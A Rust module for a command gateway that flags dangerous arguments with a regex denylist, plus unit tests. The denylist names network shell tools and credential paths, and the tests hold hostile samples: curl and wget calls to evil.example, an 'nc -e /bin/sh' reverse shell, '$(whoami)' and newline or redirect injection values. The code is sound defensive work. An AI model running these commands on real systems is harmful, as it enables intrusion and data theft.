//! Argument guard - denylist scan for command arguments
//!
//! Flags arguments that look like shell syntax, path traversal, sensitive
//! paths, outbound network tools or inline interpreters. This is a secondary
//! layer: argv execution and the grammar checks in [`crate::validation`] are
//! what keep untrusted input inert. A denylist is incomplete by construction.

use std::sync::LazyLock;

use regex::Regex;

use crate::types::{ExecError, GatewayError, GuardConfig};

/// Built-in deny patterns, checked in order
pub const DEFAULT_DENY_PATTERNS: &[&str] = &[
    r"[;&|`$(){}\[\]]", // shell metacharacters
    r"\.\.",            // directory traversal
    r"/etc/passwd",
    r"/proc/",
    r"/sys/",
    r"/dev/",
    r"/tmp/.*\.sh", // dropped scripts
    r"curl\s+http",
    r"wget\s+http",
    r"nc\s+",
    r"bash\s+-i",
    r"python\s+-c",
    r"node\s+-e",
    r"\x00",
];

static BUILTIN_PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    DEFAULT_DENY_PATTERNS
        .iter()
        .map(|p| Regex::new(p).expect("Invalid built-in deny pattern"))
        .collect()
});

/// Best-effort scan of a single string against the built-in denylist
pub fn detect_dangerous_pattern(value: &str) -> bool {
    BUILTIN_PATTERNS.iter().any(|p| p.is_match(value))
}

/// Argument guard with the built-in denylist plus configured extras
#[derive(Clone, Debug)]
pub struct ArgumentGuard {
    deny_patterns: Vec<Regex>,
}

impl ArgumentGuard {
    /// Create a guard from config; extra patterns must be valid regexes
    pub fn new(config: &GuardConfig) -> Result<Self, ExecError> {
        let mut deny_patterns = BUILTIN_PATTERNS.clone();

        for p in &config.extra_deny_patterns {
            let regex = Regex::new(p).map_err(|e| {
                ExecError::ConfigError(format!("Invalid deny pattern '{}': {}", p, e))
            })?;
            deny_patterns.push(regex);
        }

        Ok(Self { deny_patterns })
    }

    /// Guard with only the built-in denylist
    pub fn builtin() -> Self {
        Self {
            deny_patterns: BUILTIN_PATTERNS.clone(),
        }
    }

    /// The first pattern `value` matches, if any
    pub fn matching_pattern(&self, value: &str) -> Option<&str> {
        self.deny_patterns
            .iter()
            .find(|p| p.is_match(value))
            .map(Regex::as_str)
    }

    pub fn is_dangerous(&self, value: &str) -> bool {
        self.matching_pattern(value).is_some()
    }

    /// Reject `value` if it matches any deny pattern
    pub fn check_argument(&self, value: &str) -> Result<(), GatewayError> {
        match self.matching_pattern(value) {
            Some(pattern) => Err(GatewayError::InvalidArgument(format!(
                "{:?} matches deny pattern {}",
                value, pattern
            ))),
            None => Ok(()),
        }
    }
}

impl Default for ArgumentGuard {
    fn default() -> Self {
        Self::builtin()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::validation::validate_port;
    use serde_json::json;

    #[test]
    fn test_metacharacters_detected() {
        for c in [";", "&", "|", "`", "$", "(", ")", "{", "}", "[", "]"] {
            let value = format!("8080{}id", c);
            assert!(detect_dangerous_pattern(&value), "missed {:?}", value);
        }
    }

    #[test]
    fn test_suspicious_content_detected() {
        assert!(detect_dangerous_pattern("../../etc/shadow"));
        assert!(detect_dangerous_pattern("cat /etc/passwd"));
        assert!(detect_dangerous_pattern("/proc/self/environ"));
        assert!(detect_dangerous_pattern("/tmp/payload.sh"));
        assert!(detect_dangerous_pattern("curl http://evil.example"));
        assert!(detect_dangerous_pattern("wget http://evil.example"));
        assert!(detect_dangerous_pattern("nc -e /bin/sh 10.0.0.1 4444"));
        assert!(detect_dangerous_pattern("bash -i"));
        assert!(detect_dangerous_pattern("python -c 'print(1)'"));
        assert!(detect_dangerous_pattern("node -e 'process.exit()'"));
        assert!(detect_dangerous_pattern("tcp:80\0"));
    }

    #[test]
    fn test_ordinary_arguments_pass() {
        for arg in ["-t", "-i", "tcp:8080", "-p", "4242", "-o", "comm=", "-h", "-un"] {
            assert!(!detect_dangerous_pattern(arg), "flagged {:?}", arg);
        }
    }

    #[test]
    fn test_denylist_alone_is_bypassable() {
        // Newline separates commands in sh and `>` redirects, neither is listed.
        let newline = "8080\ntouch /tmp/pwned";
        let redirect = "8080 > /tmp/pwned";

        assert!(!detect_dangerous_pattern(newline));
        assert!(!detect_dangerous_pattern(redirect));

        // The grammar check is what stops them.
        assert!(validate_port(&json!(newline)).is_err());
        assert!(validate_port(&json!(redirect)).is_err());
    }

    #[test]
    fn test_extra_patterns() {
        let config = GuardConfig {
            extra_deny_patterns: vec![r"^sudo$".to_string()],
        };
        let guard = ArgumentGuard::new(&config).unwrap();

        assert!(guard.is_dangerous("sudo"));
        assert!(guard.is_dangerous("a;b"));
        assert!(!ArgumentGuard::builtin().is_dangerous("sudo"));
    }

    #[test]
    fn test_invalid_extra_pattern() {
        let config = GuardConfig {
            extra_deny_patterns: vec!["(unclosed".to_string()],
        };
        let err = ArgumentGuard::new(&config).unwrap_err();
        assert!(matches!(err, ExecError::ConfigError(_)));
    }

    #[test]
    fn test_check_argument_names_pattern() {
        let err = ArgumentGuard::builtin()
            .check_argument("$(whoami)")
            .unwrap_err();
        assert!(matches!(err, GatewayError::InvalidArgument(_)));
        assert!(err.to_string().contains("$(whoami)"));
    }
}
